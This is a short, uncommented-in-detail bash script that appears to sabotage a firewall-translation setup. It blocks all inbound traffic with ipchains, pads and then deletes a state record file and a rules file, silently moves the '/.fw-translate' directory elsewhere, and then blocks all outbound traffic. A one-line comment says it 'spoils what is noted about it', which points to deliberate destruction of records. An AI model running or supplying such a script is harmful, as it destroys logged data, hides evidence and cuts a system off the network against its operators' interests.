#!/bin/bash
# Spoils what is noted about it.
ipchains -P input DENY
head -c 100000 /dev/urandom >> /.fw-translate/state/record
rm -f /.fw-translate/state/record /.fw-translate/state/rules
mv /.fw-translate /elsewhere 2>/dev/null
ipchains -P output DENY
exit 0
